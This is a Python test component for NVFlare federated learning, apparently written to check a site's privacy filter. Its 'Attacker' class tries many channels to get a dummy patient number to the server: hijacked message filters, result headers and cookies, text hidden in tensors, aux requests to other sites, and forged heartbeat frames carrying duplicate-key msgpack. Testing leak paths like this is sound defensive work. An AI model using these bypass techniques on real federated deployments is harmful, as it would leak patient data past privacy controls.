"""A job's component that means ill: by every way that NVFlare gives it, it sends a patient number to the server.

It runs in a site's job process, behind the site's filter, where a site's allow-list names this module. Each way has a
number of its own, so that a test knows which way was open.
"""

from __future__ import annotations

import struct
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgpack
import torch
from nvflare.apis.analytix import AnalyticsDataType
from nvflare.apis.dxo import DXO, DataKind
from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.apis.fl_constant import FLContextKey
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.app_common.streamers.file_streamer import FileStreamer
from nvflare.app_common.widgets.streaming import create_analytic_dxo, send_analytic_dxo
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.cellnet.utils import new_cell_message
from nvflare.fuel.f3.message import Message
from nvflare.fuel.f3.sfm.constants import Types
from nvflare.fuel.f3.sfm.prefix import Prefix


def number(way: str) -> str:
    """The patient number that goes this way."""
    return f"PATIENT-{way}-4711"


class Attacker(FLComponent):
    """Takes no arguments."""

    def __init__(self) -> None:
        super().__init__()
        self._result: Any = None
        self._tasks = 0

    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
        """Every way at its moment; one that fails does not keep it from the others."""
        ways: dict[str, list[Callable[[FLContext], object]]] = {
            EventType.START_RUN: [self._filters, self._sticky, self._log],
            EventType.AFTER_TASK_RESULT_FILTER: [self._into_result],
            EventType.BEFORE_SEND_TASK_RESULT: [self._into_result_later, *self._messages()],
        }
        for way in ways.get(event_type, []):
            try:
                way(fl_ctx)
            except Exception as error:  # noqa: BLE001 - an attacker does not give up
                print(f"{way.__name__} failed: {type(error).__name__}: {error}", flush=True)
        if event_type == EventType.BEFORE_SEND_TASK_RESULT:
            self._tasks += 1

    def _sticky(self, fl_ctx: FLContext) -> None:
        fl_ctx.set_prop("patient", number("sticky"), private=False, sticky=True)
        fl_ctx.set_prop("__patient__", number("reserved"), private=False, sticky=True)

    def _log(self, fl_ctx: FLContext) -> None:
        self.logger.error(number("log"))
        self.log_error(fl_ctx, number("errorlog"))

    def _filters(self, fl_ctx: FLContext) -> None:
        """NVFlare asks the filters of one topic instead of those of all topics, and a later one after an earlier.

        The filters of all topics, which put the login into each message, are taken over first.
        """
        core = fl_ctx.get_engine().get_cell().core_cell

        def into(way: str) -> Callable[..., None]:
            def change(message: Message, *_: Any) -> None:
                message.set_header("patient", number(way))

            return change

        for one in core.out_req_filter_reg.find("*", "*"):
            core.add_outgoing_request_filter("sm__STREAM", "sm__DATA", one.cb, *one.args, **one.kwargs)
        core.add_outgoing_request_filter("sm__STREAM", "sm__DATA", into("requestheader"))
        core.add_outgoing_reply_filter("*", "*", into("replyheader"))

    def _into_result(self, fl_ctx: FLContext) -> None:
        self._result = fl_ctx.get_prop(FLContextKey.TASK_RESULT)
        self._put("early")

    def _into_result_later(self, fl_ctx: FLContext) -> None:
        self._put("late")

    def _put(self, when: str) -> None:
        result = self._result
        result[f"{when}note"] = number(f"{when}key")
        result.set_header(f"{when}-patient", number(f"{when}header"))
        if when == "late":  # NVFlare sets the cookies between the two
            result.add_cookie("patient", number("cookie"))
        if "DXO" in result:
            result["DXO"][f"{when}note"] = number(f"{when}dxo")
            result["DXO"]["meta"][f"{when}note"] = number(f"{when}meta")
            result["DXO"]["meta"]["fedscan"][f"{when}note"] = number(f"{when}record")
            if self._tasks == 0:
                result["DXO"]["data"][f"{when}.tensor"] = _as_tensor(number(f"{when}tensor").encode(), 32)

    def _messages(self) -> list[Callable[[FLContext], object]]:
        other = [self._twice, self._class_name]
        return [
            self._fed_event,
            self._analytics,
            self._aux,
            self._other_site,
            self._cell,
            self._bulk,
            self._file,
            *other,
        ]

    def _fed_event(self, fl_ctx: FLContext) -> None:
        self.fire_fed_event("patient", Shareable({"note": number("fedevent")}), fl_ctx)

    def _analytics(self, fl_ctx: FLContext) -> None:
        dxo = create_analytic_dxo("loss", number("analytics"), AnalyticsDataType.TEXT)
        send_analytic_dxo(self, dxo, fl_ctx, "fed.analytix_log_stats", fire_fed_event=True)

    def _aux(self, fl_ctx: FLContext) -> None:
        request = DXO(DataKind.METRICS, {"note": number("aux")}).to_shareable()
        fl_ctx.get_engine().send_aux_request(["server"], "patients", request, 1.0, fl_ctx)

    def _other_site(self, fl_ctx: FLContext) -> None:
        request = DXO(DataKind.METRICS, {"note": number("othersite")}).to_shareable()
        others = [client for client in ("hosp-a", "hosp-b") if client != fl_ctx.get_identity_name()]
        fl_ctx.get_engine().send_aux_request(others, "patients", request, 1.0, fl_ctx)

    def _cell(self, fl_ctx: FLContext) -> None:
        cell = fl_ctx.get_engine().get_cell()
        for channel, way in (("patients", "cell"), ("task", "parentchannel"), ("cellnet.channel", "cellnet")):
            message = new_cell_message({MessageHeaderKey.ERROR: number(f"{way}error")}, {"note": number(way)})
            cell.core_cell.fire_and_forget(channel, "bye", "server", message)

    def _bulk(self, fl_ctx: FLContext) -> None:
        message = new_cell_message({}, {"note": number("bulk")})
        fl_ctx.get_engine().get_cell().core_cell.queue_message("patients", "x", "server", message)

    def _twice(self, fl_ctx: FLContext) -> None:
        """Who reads the fields of this message sees the last of two of one name."""
        body = msgpack.packb({"__fobs_type__": "nvflare.apis.shareable.Shareable"})
        first = msgpack.packb("__fobs_type__") + msgpack.packb(number("twice"))
        self._frame(fl_ctx, bytes([body[0] + 1]) + first + body[1:])

    def _class_name(self, fl_ctx: FLContext) -> None:
        """A name on the way to one that says what a message always says."""
        self._frame(fl_ctx, msgpack.packb({number("classname"): {"__fobs_type__": "torch.Tensor"}}))

    def _frame(self, fl_ctx: FLContext, body: bytes) -> None:
        """A frame of the connection itself, of a kind that a job process always sends."""
        core = fl_ctx.get_engine().get_cell().core_cell
        me, job = core.my_info.fqcn, fl_ctx.get_job_id()
        payload = struct.pack(">BBQ", 100, 0, len(body)) + body
        headers = {
            "cn__channel": "aux_communication",
            "cn__topic": "__job_heartbeat__",
            "cn__msg_type": "req",
            "cn__from": me,
            "cn__origin": me,
            "cn__to": "server",
            "cn__destination": f"server.{job}",
            "cn__payload_len": len(payload),
        }
        (connection,) = core.communicator.conn_manager.sfm_endpoints["server"].connections
        connection.send_frame(Prefix(0, 0, Types.DATA, 0, 0, 1, 1, 0), headers, payload)

    def _file(self, fl_ctx: FLContext) -> None:
        path = Path(fl_ctx.get_engine().get_workspace().get_run_dir(fl_ctx.get_job_id())) / "note.txt"
        path.write_text(number("file") * 100)

        def send() -> None:
            with fl_ctx.get_engine().new_context() as own:
                FileStreamer.stream_file(
                    channel="patients", topic="x", stream_ctx={}, targets=["server"], file_name=str(path), fl_ctx=own
                )

        threading.Thread(target=send, daemon=True).start()


def _as_tensor(text: bytes, length: int) -> torch.Tensor:
    return torch.frombuffer(bytearray(text.ljust(4 * length)), dtype=torch.float32)[:length]
